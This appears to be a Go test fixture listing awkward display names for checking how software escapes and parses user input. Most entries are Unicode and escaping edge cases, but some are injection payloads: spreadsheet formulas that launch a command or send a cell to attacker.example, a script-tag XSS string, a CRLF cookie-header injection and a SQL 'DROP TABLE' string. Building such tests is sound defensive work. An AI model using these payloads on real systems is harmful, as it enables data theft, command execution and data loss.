package people

import "strings"

// hostileNames returns display names that break careless readers, each as the
// inside of a JSON string, escaped as a server may escape it.
func hostileNames() []string {
	return []string{
		`=cmd|' /C calc'!A0`,
		`+1 (555) 0100`,
		`@SUM(1+1)*cmd|' /C calc'!A0`,
		`-2+3+cmd|' /C calc'!A0`,
		`=HYPERLINK(\"https://attacker.example/?\"&A1,\"Click\")`,
		`\t=1+1`,
		`\r=1+1`,
		`She said \"no\"`,
		`Comma, Semicolon; Pipe|Tab\tEnd`,
		`Line\nbreak`,
		`Carriage\r\nreturn`,
		"Separator\u2028line\u2029paragraph",
		`Escaped \u2028 separator`,
		`Family 👩‍👩‍👧‍👦 and flag 🏴‍☠️`,
		`Pair \ud83d\ude00 escaped`,
		`Lone \ud83d surrogate`,
		`Lone \ude00 low`,
		"Zero\u200bwidth\u200djoiner\ufeff",
		"Right\u202eleft",
		`Esc \u001b[31mred\u001b[0m`,
		`Bell \u0007 and \u0000 nul`,
		`Back\\slash and \/ slash`,
		`C:\\Users\\public`,
		`</script><script>alert(1)</script>`,
		`<b>&amp;</b>`,
		`{\"id\":\"not-an-id\"}`,
		`\"value\":[]`,
		`%0d%0aSet-Cookie: a=b`,
		`'; DROP TABLE users; --`,
		`  leading and trailing  `,
		`null`,
		`Zalgo ẗ̴͚́e̶̱͝x̵͇̊t̷`,
		strings.Repeat("Ω", 256),
		strings.Repeat("Wolfeschlegelstein", 14) + "haus",
		`\u00e9\u00E9é`,
		"e\u0301 decomposed",
		`DEL \u007f and C1 \u0085`,
		`𠮷野家 𝒜𝓁𝒾𝒸ℯ`,
	}
}
